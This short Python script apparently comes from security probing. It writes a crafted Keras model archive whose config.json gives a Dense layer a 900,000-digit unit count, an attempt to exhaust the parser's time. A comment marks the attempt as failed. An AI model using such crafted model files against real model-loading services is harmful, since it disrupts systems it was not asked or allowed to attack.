# failed: a number takes the worker's time by its length
import zipfile

layer = '{"module": "keras.layers", "class_name": "Dense", "config": {"units": %s, "use_bias": true}}'
with zipfile.ZipFile("/evidence/model.keras", "w") as archive:
    archive.writestr(
        "config.json",
        '{"module": "keras", "class_name": "Sequential", "config": {"layers": [' + layer % ("9" * 900_000) + "]}}",
    )
